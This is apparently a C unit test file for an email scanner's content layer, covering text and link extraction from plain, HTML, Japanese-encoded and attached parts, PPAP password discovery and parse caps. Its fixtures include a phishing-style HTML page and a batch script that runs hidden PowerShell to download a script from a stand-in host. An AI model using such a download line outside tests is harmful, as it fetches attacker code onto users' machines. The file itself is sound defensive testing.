/*
 * test_content.c - the content layer (src/content/) and the one HTML pass
 * under it (src/html/extract.c): the text and links of a text/plain body,
 * an HTML body, ISO-2022-JP and Shift_JIS bodies, an HTML attachment read
 * through the object tree; the normalised text; every cap; and the
 * sequence of a scan (PPAP discovery, the tree, every reader) parsing each
 * HTML part exactly once (html_parse_count()).
 */
#include "test_helpers.h"

#include <string.h>

#include "content/content.h"
#include "html/extract.h"
#include "ja_text.h"
#include "mime/message.h"
#include "objects/filetype.h"
#include "objects/object.h"
#include "objects/password.h"
#include "ppap/discover.h"

static const struct mime_limits mlim = {
	.max_size = 16u << 20,
	.max_decoded = 16u << 20,
	.max_parts = 100,
	.max_depth = 10,
	.max_names = 100,
};

static struct obj_limits
olimits(void)
{
	struct obj_limits l = {
		.depth = 12, .objects = 1000, .object_bytes = 64ull << 20,
		.unpacked_bytes = 512ull << 20, .stream_bytes = 1ull << 30,
		.ratio = 100, .ratio_min = 16ull << 20, .padding_min = 4ull << 20,
		.deadline_us = 0, .mime = &mlim,
	};
	return l;
}

static struct mime_message *
parse(const char *s)
{
	return mime_message_parse((const uint8_t *)s, strlen(s), &mlim);
}

static const struct content_link *
link_at(const GPtrArray *links, guint i)
{
	assert_true(i < links->len);
	return links->pdata[i];
}

static void
test_plain_body(void **state)
{
	(void)state;
	struct mime_message *m = parse(
	    "From: a@example.com\r\nSubject: hi\r\n"
	    "Content-Type: text/plain; charset=utf-8\r\n\r\n"
	    "Hello  \xef\xbc\xa1\xef\xbc\xa2\xef\xbc\xa3\xe3\x80\x80\xef\xbc\x91\xef\xbc\x92\r\n"
	    "\r\n"
	    "see https://example.com/a?b=1, or (www.example.org/x). mailto:x@y\r\n"
	    "nohttp://x.example is not one\r\n");
	struct content *c = content_new(m, NULL);

	assert_int_equal(c->texts->len, 1);
	assert_int_equal(c->n_body, 1);
	const struct content_text *t = c->texts->pdata[0];
	assert_int_equal(t->kind, CONTENT_PLAIN);
	assert_int_equal(t->origin, CONTENT_BODY);
	assert_string_equal(t->source, "text part 1");
	size_t n;
	const char *s = content_text(c, t, &n);
	assert_true(n > 0 && strstr(s, "Hello") == s);
	assert_non_null(strstr(s, "\xef\xbc\xa1\xef\xbc\xa2"));	/* as written */
	const char *nm = content_norm(c, t, &n);
	assert_string_equal(nm, "Hello ABC 12\n"
	    "see https://example.com/a?b=1, or (www.example.org/x). mailto:x@y\n"
	    "nohttp://x.example is not one");
	assert_int_equal(n, strlen(nm));

	const GPtrArray *l = content_links(c);
	assert_int_equal(l->len, 2);
	assert_string_equal(link_at(l, 0)->url, "https://example.com/a?b=1");
	assert_int_equal(link_at(l, 0)->at, CONTENT_LINK_TEXT);
	assert_null(link_at(l, 0)->text);
	assert_ptr_equal(link_at(l, 0)->in, t);
	assert_string_equal(link_at(l, 1)->url, "www.example.org/x");
	assert_ptr_equal(content_links(c), l);	/* computed once */
	content_free(c);
	mime_message_free(m);
}

static const char html_body[] =
	"<html><head><title>T</title><style>p{color:red}</style>"
	"<meta http-equiv=\"refresh\" content=\"3; url='https://r.example/go'\">"
	"<script>var hidden = 'no';</script></head><body>"
	"<p>Dear   customer,</p><div>Click <a href=\"https://evil.example/login\">"
	"<b>your</b>\n  bank</a> now.</div>"
	"<img src=\"cid:logo\"><form action=\"https://post.example/\">"
	"<input type=password name=pw></form>"
	"<pre>a\n b</pre><noscript>not shown</noscript></body></html>";

static void
check_html_doc(const struct html_doc *d)
{
	const char *s = d->text->str;

	assert_non_null(strstr(s, "Dear   customer,"));
	assert_non_null(strstr(s, "Click your   bank now."));
	assert_non_null(strstr(s, "a\n b"));
	assert_null(strstr(s, "hidden"));
	assert_null(strstr(s, "color"));
	assert_null(strstr(s, "not shown"));
	assert_int_equal(d->links->len, 4);
	const struct html_link *l = d->links->pdata[0];
	assert_int_equal(l->attr, HTML_REF_REFRESH);
	assert_string_equal(l->url, "https://r.example/go");
	l = d->links->pdata[1];
	assert_int_equal(l->attr, HTML_REF_HREF);
	assert_string_equal(l->url, "https://evil.example/login");
	assert_string_equal(l->text, "your bank");
	l = d->links->pdata[2];
	assert_int_equal(l->attr, HTML_REF_SRC);
	assert_string_equal(l->url, "cid:logo");
	assert_null(l->text);
	l = d->links->pdata[3];
	assert_int_equal(l->attr, HTML_REF_ACTION);
	assert_string_equal(l->url, "https://post.example/");
}

static void
test_html_body(void **state)
{
	(void)state;
	GString *g = g_string_new("From: a@example.com\r\nSubject: hi\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n");
	g_string_append(g, html_body);
	struct mime_message *m = parse(g->str);
	struct content *c = content_new(m, NULL);
	unsigned long before = html_parse_count();

	assert_int_equal(c->texts->len, 1);
	const struct content_text *t = c->texts->pdata[0];
	assert_int_equal(t->kind, CONTENT_HTML);
	assert_string_equal(t->source, "html part 1");
	assert_int_equal(html_parse_count(), before);	/* not parsed until read */
	const struct html_doc *d = content_html(c, t);
	assert_int_equal(html_parse_count(), before + 1);
	check_html_doc(d);
	assert_int_equal(d->parsed, d->input_len);
	assert_null(d->elems);	/* a body part keeps text and links only */
	size_t n;
	const char *nm = content_norm(c, t, &n);
	assert_non_null(strstr(nm, "Dear customer,\nClick your bank now.\n"));
	const GPtrArray *l = content_links(c);
	assert_int_equal(l->len, 4);
	assert_int_equal(link_at(l, 1)->at, CONTENT_LINK_HTML);
	assert_string_equal(link_at(l, 1)->text, "your bank");
	assert_ptr_equal(link_at(l, 1)->in, t);
	(void)content_text(c, t, &n);
	assert_int_equal(html_parse_count(), before + 1);	/* once */
	content_free(c);
	mime_message_free(m);
	g_string_free(g, TRUE);
}

static void
test_japanese_bodies(void **state)
{
	(void)state;
	static const struct {
		const char *charset, *body;
	} cases[] = {
		{ "ISO-2022-JP", JIS_BODY },
		{ "Shift_JIS", SJIS_BODY },
	};

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		char *s = g_strdup_printf("From: a@example.com\r\nSubject: x\r\n"
		    "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=B\r\n\r\n"
		    "--B\r\nContent-Type: text/plain; charset=%s\r\n\r\n%s\r\n"
		    "--B\r\nContent-Type: text/html; charset=%s\r\n\r\n<p>%s</p>"
		    "<a href=\"https://jp.example/\">%s</a>\r\n--B--\r\n",
		    cases[i].charset, cases[i].body, cases[i].charset, cases[i].body,
		    cases[i].body);
		struct mime_message *m = parse(s);
		struct content *c = content_new(m, NULL);
		assert_int_equal(c->texts->len, 2);
		size_t n;
		const struct content_text *t = c->texts->pdata[0];
		assert_string_equal(t->source, "text part 1");
		const char *txt = content_text(c, t, &n);
		assert_true(g_utf8_validate(txt, (gssize)n, NULL));
		assert_non_null(strstr(txt, "\xe3\x81\x8a\xe4\xb8\x96\xe8\xa9\xb1"));	/* お世話 */
		t = c->texts->pdata[1];
		assert_string_equal(t->source, "html part 2");
		txt = content_text(c, t, &n);
		assert_non_null(strstr(txt, "\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8"));	/* 請求書 */
		const char *nm = content_norm(c, t, &n);
		assert_non_null(strstr(nm, "\xe3\x81\x8a\xe4\xb8\x96\xe8\xa9\xb1"));
		const GPtrArray *l = content_links(c);
		assert_int_equal(l->len, 1);
		assert_string_equal(link_at(l, 0)->url, "https://jp.example/");
		assert_non_null(strstr(link_at(l, 0)->text, "\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8"));
		content_free(c);
		mime_message_free(m);
		g_free(s);
	}
}

/* A mail with a PPAP password in an HTML body, a second HTML body part
 * and an HTML attachment: the scan's sequence parses each once. */
static void
test_attachment_and_parse_once(void **state)
{
	(void)state;
	char *b64 = g_base64_encode((const guchar *)html_body, strlen(html_body));
	char *s = g_strdup_printf("From: a@example.com\r\nSubject: documents\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
	    "--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
	    "<p>Hello.</p><p>\xe3\x83\x91\xe3\x82\xb9\xe3\x83\xaf\xe3\x83\xbc\xe3\x83\x89"
	    "\xef\xbc\x9a Xq7pLm29</p>\r\n"
	    "--B\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Second <a href=x.html>part</a></p>\r\n"
	    "--B\r\nContent-Type: text/html; name=page.html\r\n"
	    "Content-Disposition: attachment; filename=page.html\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--B--\r\n", b64);
	struct mime_message *m = parse(s);
	unsigned long before = html_parse_count();
	struct content *c = content_new(m, NULL);
	struct pw_list *pw = pw_list_new(100, 0);

	assert_int_equal(c->n_body, 2);
	bool notice = ppap_discover_content(c, PW_SRC_BODY, pw, 10);
	assert_true(notice);
	assert_int_equal(pw->cands->len, 1);
	assert_string_equal(((const struct pw_cand *)pw->cands->pdata[0])->pw, "Xq7pLm29");
	/* PPAP discovery read the part with the keyword, not the other one */
	assert_int_equal(html_parse_count(), before + 1);

	struct obj_limits ol = olimits();
	ol.passwords = pw;
	struct obj_tree *tree = obj_tree_build(m, &ol);
	assert_int_equal(html_parse_count(), before + 2);	/* the attachment */
	content_add_objects(c, tree);
	content_set_passwords(c, pw, notice);
	assert_ptr_equal(c->passwords, pw);
	assert_int_equal(c->texts->len, 3);
	const struct content_text *a = c->texts->pdata[2];
	assert_int_equal(a->origin, CONTENT_ATTACHMENT);
	assert_int_equal(a->kind, CONTENT_HTML);
	assert_string_equal(a->source, "page.html");
	assert_non_null(a->obj);
	check_html_doc(content_html(c, a));
	/* the analyser judged from the same parse */
	const struct mobj *o = a->obj;
	assert_non_null(o->facts);
	assert_true(obj_has_fact(o, OBJ_FACT_HTML_REDIRECT));

	/* every reader after that: no parse more */
	const GPtrArray *l = content_links(c);
	for (guint i = 0; i < c->texts->len; i++) {
		size_t n;
		(void)content_text(c, c->texts->pdata[i], &n);
		(void)content_norm(c, c->texts->pdata[i], &n);
	}
	assert_int_equal(html_parse_count(), before + 3);	/* 3 HTML parts, once each */
	assert_int_equal(l->len, 1 + 4);
	assert_string_equal(link_at(l, 0)->url, "x.html");
	assert_string_equal(link_at(l, 0)->text, "part");
	assert_string_equal(link_at(l, 0)->in->source, "html part 2");
	assert_ptr_equal(link_at(l, 2)->in, a);
	assert_string_equal(link_at(l, 2)->url, "https://evil.example/login");

	content_free(c);
	obj_tree_free(tree);
	pw_list_free(pw);
	mime_message_free(m);
	g_free(s);
	g_free(b64);
}

static void
test_caps(void **state)
{
	(void)state;
	GString *h = g_string_new(NULL);
	for (int i = 0; i < 300; i++)
		g_string_append_printf(h, "<p><a href=\"https://l%d.example/\">link %d</a></p>", i, i);
	struct html_limits lim = html_limits_default;

	/* tags: 4 a paragraph, 200 tags are 50 paragraphs */
	lim.tags_max = 200;
	struct html_doc *d = html_doc_parse(h->str, h->len, &lim);
	assert_true(d->parsed < d->input_len);
	assert_int_equal(d->links->len, 50);
	assert_non_null(strstr(d->text->str, "link 49"));
	assert_null(strstr(d->text->str, "link 50"));
	/* the text of the nodes before a source offset */
	size_t upto = html_doc_text_upto(d, strlen("<p><a href=\"https://l0.example/\">link 0</a></p>"));
	assert_int_equal(upto, strlen("\nlink 0\n\n"));
	html_doc_free(d);

	/* bytes */
	lim = html_limits_default;
	lim.input_max = 100;
	d = html_doc_parse(h->str, h->len, &lim);
	assert_int_equal(d->parsed, 100);
	html_doc_free(d);

	/* links, link text, visible text, script */
	lim = html_limits_default;
	lim.links_max = 10;
	lim.link_text_max = 3;
	lim.text_max = 50;
	d = html_doc_parse(h->str, h->len, &lim);
	assert_int_equal(d->links->len, 10);
	assert_int_equal(d->links_dropped, 290);
	assert_string_equal(((const struct html_link *)d->links->pdata[0])->text, "lin");
	assert_true(d->text->len <= 50);
	html_doc_free(d);

	GString *js = g_string_new("<script>");
	for (int i = 0; i < 1000; i++)
		g_string_append(js, "x=1;");
	g_string_append(js, "</script><p onload=\"go()\">\xe3\x81\x82\xe3\x81\x82</p>");
	lim = html_limits_default;
	lim.script_max = 100;
	lim.text_max = 5;	/* cuts the second あ: dropped, not half kept */
	d = html_doc_parse(js->str, js->len, &lim);
	assert_true(d->js->len <= 100 + 2);
	assert_string_equal(d->text->str, "\n\xe3\x81\x82");
	html_doc_free(d);
	g_string_free(js, TRUE);

	/* the content's own caps: links per scan, text of an attachment */
	char *s = g_strdup_printf("From: a@example.com\r\nSubject: x\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n%s", h->str);
	struct mime_message *m = parse(s);
	struct content_limits cl = content_limits_default;
	cl.html = html_limits_default;
	cl.links_max = 7;
	struct content *c = content_new(m, &cl);
	assert_int_equal(content_links(c)->len, 7);
	assert_int_equal(c->links_dropped, 293);
	content_free(c);
	mime_message_free(m);
	g_free(s);
	g_string_free(h, TRUE);
}

static void
test_text_attachment(void **state)
{
	(void)state;
	GString *body = g_string_new(NULL);
	for (int i = 0; i < 100; i++)
		g_string_append(body, "line http://t.example/ \xff\n");
	char *b64 = g_base64_encode((const guchar *)body->str, body->len);
	char *s = g_strdup_printf("From: a@example.com\r\nSubject: x\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
	    "--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n"
	    "--B\r\nContent-Type: text/plain; name=notes.txt\r\n"
	    "Content-Disposition: attachment; filename=notes.txt\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--B--\r\n", b64);
	struct mime_message *m = parse(s);
	struct obj_limits ol = olimits();
	struct obj_tree *tree = obj_tree_build(m, &ol);
	struct content_limits cl = content_limits_default;
	cl.html = html_limits_default;
	cl.text_max = 100;
	struct content *c = content_new(m, &cl);

	content_add_objects(c, tree);
	assert_int_equal(c->texts->len, 2);
	const struct content_text *t = c->texts->pdata[1];
	assert_int_equal(t->kind, CONTENT_PLAIN);
	assert_int_equal(t->origin, CONTENT_ATTACHMENT);
	assert_string_equal(t->source, "notes.txt");
	size_t n;
	const char *txt = content_text(c, t, &n);
	assert_true(g_utf8_validate(txt, (gssize)n, NULL));	/* \xff repaired */
	assert_true(n <= 100 + 3 * 4);	/* each \xff is U+FFFD (3 bytes) */
	assert_int_equal(content_links(c)->len, 4);	/* in 100 bytes */
	content_free(c);
	obj_tree_free(tree);
	mime_message_free(m);
	g_free(s);
	g_free(b64);
	g_string_free(body, TRUE);
}

/*
 * Objects are read as text by their true type, whatever their name and
 * declared type: a batch script (named .dat, application/octet-stream) and
 * plain text are; VBA source is not (vba.c records its URLs), nor is a
 * binary attachment.
 */
static void
test_script_attachment(void **state)
{
	(void)state;
	static const char bat[] = "@echo off\r\nstart /min powershell -w hidden -c "
	    "\"iwr https://bat.example/p.ps1 -OutFile p.ps1\"\r\n";
	static const char vba[] = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
	    "  x = \"https://vba.example/x\"\r\nEnd Sub\r\n";
	static const char txt[] = "see http://txt.example/a\n";
	static const char bin[] = "MZ\x90\x00\x03\x00\x00\x00 http://bin.example/ \xff\xfe";
	const char *data[] = { bat, vba, txt, bin };
	size_t lens[] = { sizeof bat - 1, sizeof vba - 1, sizeof txt - 1, sizeof bin - 1 };
	const char *names[] = { "run.dat", "Module1.bas", "notes.txt", "x.bin" };
	GString *s = g_string_new("From: a@example.com\r\nSubject: x\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
	    "--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n");
	for (size_t i = 0; i < G_N_ELEMENTS(data); i++) {
		char *b64 = g_base64_encode((const guchar *)data[i], lens[i]);
		g_string_append_printf(s, "--B\r\nContent-Type: application/octet-stream\r\n"
		    "Content-Disposition: attachment; filename=%s\r\n"
		    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n", names[i], b64);
		g_free(b64);
	}
	g_string_append(s, "--B--\r\n");
	struct mime_message *m = parse(s->str);
	struct obj_limits ol = olimits();
	struct obj_tree *tree = obj_tree_build(m, &ol);
	struct content *c = content_new(m, NULL);

	content_add_objects(c, tree);
	assert_int_equal(c->texts->len, 3);
	const struct content_text *t = c->texts->pdata[1];
	assert_string_equal(t->source, "run.dat");
	assert_non_null(t->obj);
	assert_string_equal(t->obj->type->name, "bat");
	assert_int_equal(t->kind, CONTENT_PLAIN);
	assert_int_equal(t->origin, CONTENT_ATTACHMENT);
	assert_string_equal(((const struct content_text *)c->texts->pdata[2])->source, "notes.txt");
	const GPtrArray *l = content_links(c);
	assert_int_equal(l->len, 2);
	assert_string_equal(link_at(l, 0)->url, "https://bat.example/p.ps1");
	assert_ptr_equal(link_at(l, 0)->in, t);
	assert_string_equal(link_at(l, 1)->url, "http://txt.example/a");
	content_free(c);
	obj_tree_free(tree);
	mime_message_free(m);
	g_string_free(s, TRUE);
}

/*
 * content_norm() keeps a line that content_nfkc_inert() passes as it is,
 * without GLib's normalisation: for every code point the quick check
 * passes, alone and after a letter, GLib's NFKC must give it back
 * unchanged (ICU's and GLib's Unicode data must agree); and some that
 * NFKC changes are not passed.
 */
static void
test_nfkc_inert(void **state)
{
	(void)state;
	unsigned inert = 0;

	for (gunichar u = 0x80; u <= 0x10ffff; u++) {
		if (u >= 0xd800 && u <= 0xdfff)
			continue;
		char s[8] = "a";
		int k = g_unichar_to_utf8(u, s + 1);
		s[1 + k] = '\0';
		if (!content_nfkc_inert(s + 1, (size_t)k))
			continue;
		inert++;
		for (int from = 1; from >= 0; from--) {
			char *nf = g_utf8_normalize(s + from, -1, G_NORMALIZE_NFKC);
			assert_non_null(nf);
			if (strcmp(nf, s + from) != 0)
				fail_msg("U+%04X passes the quick check but NFKC changes it", u);
			g_free(nf);
		}
	}
	/* most of the code space (unassigned, Han, Hangul syllables) */
	assert_true(inert > 1000000);
	static const char *const changed[] = {
		"\xef\xbd\x86",	/* U+FF46 fullwidth f */
		"\xe2\x91\xa0",	/* U+2460 circled 1 */
		"\xc2\xa0",	/* U+00A0 no-break space */
		"e\xcc\x81",	/* e + U+0301: composes */
		"\xe3\x81\x8b\xe3\x82\x99",	/* ka + U+3099: composes */
		"\xef\xac\x81",	/* U+FB01 fi ligature */
	};
	for (size_t i = 0; i < G_N_ELEMENTS(changed); i++)
		assert_false(content_nfkc_inert(changed[i], strlen(changed[i])));
	{
		const char *ok = "caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac";
		assert_true(content_nfkc_inert(ok, strlen(ok)));
	}
	assert_true(content_nfkc_inert("", 0));
	assert_false(content_nfkc_inert("\xff", 1));	/* not UTF-8 */
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_body),
		cmocka_unit_test(test_html_body),
		cmocka_unit_test(test_japanese_bodies),
		cmocka_unit_test(test_attachment_and_parse_once),
		cmocka_unit_test(test_caps),
		cmocka_unit_test(test_text_attachment),
		cmocka_unit_test(test_script_attachment),
		cmocka_unit_test(test_nfkc_inert),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
